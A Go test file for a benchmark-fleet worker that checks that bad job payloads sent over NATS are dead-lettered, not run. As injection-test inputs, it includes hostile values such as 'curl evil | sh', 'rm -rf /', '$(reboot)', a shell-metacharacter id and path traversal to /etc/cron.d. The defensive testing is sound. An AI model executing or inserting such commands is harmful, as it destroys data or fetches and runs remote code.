package worker_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/benchfleet/benchfleet/device"
	"github.com/benchfleet/benchfleet/device/cpu"
	"github.com/benchfleet/benchfleet/internal/fleettest"
	"github.com/benchfleet/benchfleet/protocol"
	"github.com/benchfleet/benchfleet/worker"
	"github.com/benchfleet/benchfleet/worker/fleet"
)

// Bad jobs published raw on the job subjects never crash the worker: each
// becomes a dead letter whose reason names the field (listed by `dlq list
// --format json` with the original payload), plus a failed result with
// class invalid when the job's own id and run are valid. A good job
// afterwards still passes.
func TestBadJobsAreDeadLettered(t *testing.T) {
	t.Parallel()
	f := newFaultFleet(t)
	cfg := f.workerConfig(t, "bad-w", 2)
	cpuRunner, err := cpu.New(cpu.Config{})
	if err != nil {
		t.Fatal(err)
	}
	cfg.Slots = append(cfg.Slots, worker.Slot{Device: device.Device{ID: "cpu-0", Pool: "cpu", Runner: "cpu", Chips: 1, Healthy: true}, Runner: cpuRunner})
	fleettest.StartWorker(t, cfg)

	const run = "bad-1"
	// good returns a valid sim job document as a map to break.
	n := 0
	good := func() map[string]any {
		n++
		j := fleettest.SimJobs(t, run, 1, map[string]string{"case": fmt.Sprint(n)})[0]
		j.CreatedAt = time.Now().UTC()
		b, _ := json.Marshal(j)
		var m map[string]any
		if err := json.Unmarshal(b, &m); err != nil {
			t.Fatal(err)
		}
		return m
	}
	enc := func(m map[string]any) []byte {
		b, err := json.Marshal(m)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	// edit changes a good job; the id stays its content's (a producer's
	// own mistake) unless fn sets one.
	edit := func(fn func(m, bench map[string]any)) []byte {
		m := good()
		id := m["id"]
		fn(m, m["benchmark"].(map[string]any))
		if m["id"] == id {
			var j protocol.Job
			if json.Unmarshal(enc(m), &j) == nil {
				m["id"] = protocol.JobID(j.Run, j.Cell())
			}
		}
		return enc(m)
	}
	// forge changes a good job and keeps its id: the id no longer binds
	// the content.
	forge := func(fn func(m, bench map[string]any)) []byte {
		m := good()
		fn(m, m["benchmark"].(map[string]any))
		return enc(m)
	}
	type badCase struct {
		name    string
		subject string // default bench.jobs.sim.normal
		payload []byte
		reason  string // substring of the dead letter's reason
		result  bool   // a failed result is recorded (valid id and run)
	}
	cases := []badCase{
		{name: "malformed json", payload: []byte(`{"schema":"benchfleet.job/v1","id":`), reason: "decode job"},
		{name: "not json at all", payload: []byte("\x00\xff rm -rf / \n"), reason: "decode job"},
		{name: "empty payload", payload: []byte{}, reason: "decode job"},
		{name: "wrong schema version", payload: edit(func(m, _ map[string]any) { m["schema"] = "benchfleet.job/v2" }), reason: "schema", result: true},
		{name: "unknown field", payload: edit(func(m, _ map[string]any) { m["exec"] = "curl evil | sh" }), reason: `unknown field "exec"`},
		{name: "zero batch", payload: edit(func(_, b map[string]any) { b["batch_size"] = 0 }), reason: "benchmark.batch_size", result: true},
		{name: "negative batch", payload: edit(func(_, b map[string]any) { b["batch_size"] = -8 }), reason: "benchmark.batch_size", result: true},
		{name: "huge loop", payload: edit(func(_, b map[string]any) { b["loop_count"] = 1 << 40 }), reason: "benchmark.loop_count", result: true},
		{name: "unknown runner", payload: edit(func(m, _ map[string]any) { m["runner"] = "bash" }), reason: "runner", result: true},
		{name: "runner not served by the pool", payload: edit(func(m, _ map[string]any) { m["runner"] = "cpu" }), reason: "runner: pool sim is served by the sim runner", result: true},
		{name: "unknown pool", payload: edit(func(m, _ map[string]any) { m["pool"] = "tpu" }), reason: "pool"},
		{name: "pool differs from subject", payload: edit(func(m, _ map[string]any) { m["pool"] = "cpu" }), reason: "pool", result: true},
		{name: "id with traversal", payload: edit(func(m, _ map[string]any) { m["id"] = "../../../etc/cron.d/x" }), reason: "id: must match"},
		{name: "id with shell metacharacters", payload: edit(func(m, _ map[string]any) { m["id"] = "j1;rm -rf ~" }), reason: "id: must match"},
		{name: "run with command substitution", payload: edit(func(m, _ map[string]any) { m["run"] = "$(reboot)" }), reason: "run: must match"},
		{name: "label key escaping its folder", payload: edit(func(m, _ map[string]any) { m["labels"] = map[string]any{"../../x": "y"} }), reason: "labels", result: true},
		{name: "test escaping the checkout", payload: edit(func(_, b map[string]any) { b["test"] = "../../../tmp/evil.py::t" }), reason: "benchmark.test", result: true},
		{name: "model escaping", payload: edit(func(_, b map[string]any) { b["model"] = "../resnet50" }), reason: "benchmark.model", result: true},
		{name: "bad sim label", payload: edit(func(m, _ map[string]any) { m["labels"] = map[string]any{"sim.duration": "forever"} }), reason: "sim.duration", result: true},
		{name: "id of other content", payload: forge(func(_, b map[string]any) { b["model"] = "othernet" }), reason: "id: is not the id of the job's run and content"},
		{name: "id of other limits", payload: forge(func(m, _ map[string]any) { m["limits"] = map[string]any{"pcc_min": 0.0001} }), reason: "id: is not the id"},
		{name: "over the size limit", payload: edit(func(m, _ map[string]any) {
			m["labels"] = map[string]any{"pad": strings.Repeat("x", 500)}
			m["source"] = map[string]any{"repo": strings.Repeat("r", protocol.MaxJobBytes)}
		}), reason: "sha256"},
	}
	// cpu runner: an unknown model is invalid for it.
	cpuJob := edit(func(m, b map[string]any) {
		m["pool"], m["runner"] = "cpu", "cpu"
		b["model"] = "notamodel"
	})
	cases = append(cases, badCase{name: "cpu unknown model", subject: protocol.JobSubject("cpu", protocol.PriorityNormal), payload: cpuJob, reason: "notamodel", result: true})

	nc, _ := fleettest.Connect(t, f.url)
	js, err := jetstream.New(nc)
	if err != nil {
		t.Fatal(err)
	}
	seqCase := map[uint64]badCase{}
	for _, tc := range cases {
		subj := tc.subject
		if subj == "" {
			subj = protocol.JobSubject("sim", protocol.PriorityNormal)
		}
		m := nats.NewMsg(subj)
		m.Data = tc.payload
		ack, err := js.PublishMsg(t.Context(), m)
		if err != nil {
			t.Fatalf("%s: publish: %v", tc.name, err)
		}
		seqCase[ack.Sequence] = tc
	}

	var entries []dlqEntry
	fleettest.Eventually(t, 20*time.Second, "a dead letter for every bad job", func() bool {
		entries = f.dlqList(t)
		return len(entries) >= len(cases)
	})
	if len(entries) != len(cases) {
		t.Fatalf("%d dead letters for %d bad jobs", len(entries), len(cases))
	}
	// Match dead letters to cases by payload: the original bytes (a JSON
	// payload is shown as JSON, possibly re-indented; anything else as a
	// string, with invalid UTF-8 shown as U+FFFD).
	same := func(sent, shown []byte) bool {
		if len(sent) > protocol.MaxJobBytes {
			// Oversize: only the first bytes are kept.
			sent = sent[:protocol.DeadPayloadPrefix]
		}
		var a, b bytes.Buffer
		if json.Compact(&a, sent) == nil && json.Compact(&b, shown) == nil {
			return bytes.Equal(a.Bytes(), b.Bytes())
		}
		return strings.ToValidUTF8(string(sent), "\uFFFD") == string(shown)
	}
	matched := map[string]bool{}
	for _, e := range entries {
		payload := payloadBytes(t, e.Payload)
		var tc *badCase
		for _, c := range cases {
			if same(c.payload, payload) {
				tc = &c
				break
			}
		}
		if tc == nil {
			t.Errorf("dead letter %s has a payload no case sent: %.80q", e.ID, payload)
			continue
		}
		matched[tc.name] = true
		if !strings.HasPrefix(e.Reason, "invalid job: ") || !strings.Contains(e.Reason, tc.reason) {
			t.Errorf("%s: reason %q, want it to mention %q", tc.name, e.Reason, tc.reason)
		}
		if e.Attempts != 1 {
			t.Errorf("%s: %d attempts; an invalid job is not retried", tc.name, e.Attempts)
		}
		wantPool := "sim"
		if tc.subject != "" {
			wantPool = "cpu"
		}
		if e.Pool != wantPool {
			t.Errorf("%s: pool %q, want %q", tc.name, e.Pool, wantPool)
		}
		if protocol.ValidID("id", e.ID) != nil && !strings.HasPrefix(e.ID, "seq-") {
			t.Errorf("%s: dead letter id %q is neither a job id nor seq-N", tc.name, e.ID)
		}
	}
	for _, tc := range cases {
		if !matched[tc.name] {
			t.Errorf("%s: no dead letter", tc.name)
		}
	}
	// Failed results (class invalid) exactly for the cases with a valid id
	// and run.
	var wantResults int
	for _, tc := range cases {
		if tc.result {
			wantResults++
		}
	}
	fleettest.Eventually(t, 10*time.Second, "the failed results", func() bool {
		return len(fleettest.Results(t, f.store, run)) >= wantResults
	})
	results := fleettest.Results(t, f.store, run)
	if len(results) != wantResults {
		t.Errorf("%d results, want %d", len(results), wantResults)
	}
	for id, r := range results {
		if r.Status != protocol.StatusFailed || r.Error == nil || r.Error.Class != protocol.ClassInvalid {
			t.Errorf("result %s: %s %+v, want failed/invalid", id, r.Status, r.Error)
		}
	}
	// Nothing is left queued or unacked: every bad job was settled once.
	fleettest.Eventually(t, 10*time.Second, "every bad job settled", func() bool {
		p1, a1 := f.consumerPending(t, "sim", protocol.PriorityNormal)
		p2, a2 := f.consumerPending(t, "cpu", protocol.PriorityNormal)
		return p1+p2 == 0 && a1+a2 == 0
	})

	// The worker is alive and runs a good job.
	okJobs := fleettest.SimJobs(t, "bad-after", 1, nil)
	fleettest.Submit(t, f.js, f.topo, f.store, "bad-after", protocol.PriorityNormal, okJobs)
	fleettest.Eventually(t, 10*time.Second, "a good job after the bad ones", func() bool {
		r := fleettest.Results(t, f.store, "bad-after")[okJobs[0].ID]
		return r != nil && r.Status == protocol.StatusPassed
	})
	// Re-queueing an invalid job is refused.
	for _, e := range entries {
		if _, err := protocol.DecodeJob(payloadBytes(t, e.Payload)); err != nil && !strings.HasPrefix(e.ID, "seq-") {
			if _, err := fleet.RetryDead(t.Context(), f.js, e.ID); !errors.Is(err, fleet.ErrDeadJobInvalid) {
				t.Errorf("dlq retry of invalid job %s: %v, want ErrDeadJobInvalid", e.ID, err)
			}
			break
		}
	}
}
